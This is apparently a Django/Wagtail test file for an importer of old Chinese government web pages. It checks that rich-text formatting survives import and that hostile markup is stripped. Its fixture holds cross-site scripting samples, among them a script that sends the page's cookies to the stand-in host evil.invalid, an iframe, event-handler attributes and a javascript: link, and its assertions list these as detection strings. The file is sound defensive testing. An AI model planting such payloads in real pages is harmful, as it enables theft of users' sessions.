"""Imported bodies keep their formatting (bold, italic, line breaks, headings, lists,
aligned paragraphs, tables) as sanitised rich text; scripts, styles, event handlers
and javascript: links of a hostile old page are dropped, on the stored page and on
the published one."""

import json
import shutil
import tempfile
from dataclasses import replace
from io import StringIO
from pathlib import Path

from django.core.management import call_command
from django.test import TestCase
from wagtail.models import Site

from gongkai.catalog.models import ArticlePage
from gongkai.portal_import.fixture_sites import FixtureSite, plan_site, write_site
from gongkai.portal_import.models import ItemStatus, LegacyItem

from .sites import GOVERNMENT, create_publishers, create_site_home

HOSTILE = """
<p style="text-align:center" onclick="alert(1)">第一章　<b onmouseover="steal()">总则</b></p>
<p>第一条　为了<strong>规范</strong>管理，<em>特制定</em>本办法。<br>第二行<u>下划线</u><span style="font-weight:bold">加粗样式</span></p>
<script>document.location='http://evil.invalid/?'+document.cookie</script>
<style>body{display:none}</style>
<iframe src="http://evil.invalid/"></iframe>
<h1>一级标题</h1><h4>四级标题</h4>
<ul><li>甲项<ul><li>甲项之一</li></ul></li><li>乙项</li></ul>
<ol><li>第一步</li><li>第二步</li></ol>
<p><a href="javascript:alert(1)">恶意链接</a>，<a href="/art/2020/1/1/art_1_2.html" onclick="x()">站内链接</a>，<a href="https://www.gov.cn/zhengce/" target="_blank">国务院</a></p>
<table><tr><th>项目</th><th>金额（万元）</th></tr><tr><td colspan="2">合计</td></tr><tr><td>道路<script>x()</script></td><td>120</td></tr></table>
<p align="right">金东区人民政府<svg onload="alert(1)"><text>svg</text></svg></p>
<p>&lt;script&gt;alert(2)&lt;/script&gt;</p>
"""

EXPECTED = [
    ("paragraph", '<p class="align-center">第一章　<b>总则</b></p>'),
    (
        "paragraph",
        "<p>第一条　为了<b>规范</b>管理，<i>特制定</i>本办法。<br/>第二行下划线<b>加粗样式</b></p>",
    ),
    ("paragraph", "<h2>一级标题</h2>"),
    ("paragraph", "<h3>四级标题</h3>"),
    ("paragraph", "<ul><li>甲项</li><li>甲项之一</li><li>乙项</li></ul>"),
    ("paragraph", "<ol><li>第一步</li><li>第二步</li></ol>"),
    (
        "paragraph",
        '<p>恶意链接，<a href="/art/2020/1/1/art_1_2.html">站内链接</a>，'
        '<a href="https://www.gov.cn/zhengce/">国务院</a></p>',
    ),
    (
        "table",
        {
            "caption": "",
            "table": {
                "data": [["项目", "金额（万元）"], ["合计", ""], ["道路", "120"]],
                "first_row_is_table_header": True,
                "first_col_is_header": False,
                "table_header_choice": "row",
                "table_caption": "",
            },
        },
    ),
    ("paragraph", '<p class="align-right">金东区人民政府</p>'),
    ("paragraph", "<p>&lt;script&gt;alert(2)&lt;/script&gt;</p>"),
]


class FormattingImportTests(TestCase):
    site: Site
    plan: FixtureSite
    folder: Path

    @classmethod
    def setUpTestData(cls):
        create_publishers()
        cls.site = create_site_home().get_site()
        plan = plan_site(
            layout="hanweb",
            count=2,
            publishers=[GOVERNMENT],
            genres=[],
            topics=[],
            start_id=7_200_000,
            first_serial=7200,
        )
        # Item 1 has no images, attachments or byline of its own.
        plan.items[1] = replace(plan.items[1], body_html=HOSTILE)
        cls.plan = plan
        cls.folder = Path(tempfile.mkdtemp(prefix="gk-format-"))
        write_site(plan, cls.folder)
        call_command(
            "import",
            str(cls.folder),
            layout="hanweb",
            site=cls.site.hostname,
            stdout=StringIO(),
        )

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder, ignore_errors=True)
        super().tearDownClass()

    def page(self) -> ArticlePage:
        legacy = LegacyItem.objects.get(legacy_path=self.plan.items[1].path)
        self.assertEqual(legacy.status, ItemStatus.IMPORTED, legacy.reasons)
        return ArticlePage.objects.get(pk=legacy.page_id)

    def test_formatting_is_kept_and_hostile_markup_dropped(self):
        stored = list(self.page().body.raw_data)
        self.assertEqual([(b["type"], b["value"]) for b in stored], EXPECTED)
        raw = json.dumps(stored, ensure_ascii=False).lower()
        for hostile in ("<script", "onclick", "onmouseover", "onerror", "onload"):
            self.assertNotIn(hostile, raw)
        for hostile in ("javascript:", "evil.invalid", "<iframe", "<style", "<svg"):
            self.assertNotIn(hostile, raw)

    def test_the_published_page_shows_the_formatting_without_the_hostile_parts(self):
        page = self.page()
        response = self.client.get(page.get_url(), HTTP_HOST=self.site.hostname)
        self.assertEqual(response.status_code, 200)
        html = response.content.decode()
        self.assertIn('<p class="align-center">第一章　<b>总则</b></p>', html)
        self.assertIn("<h2>一级标题</h2>", html)
        self.assertRegex(html, r'<th scope="col"\s*>\s*项目\s*</th>')
        self.assertRegex(html, r"<td\s*>\s*道路\s*</td>")
        for hostile in ("evil.invalid", "steal()", "alert(1)", "onmouseover", "x()"):
            self.assertNotIn(hostile, html)
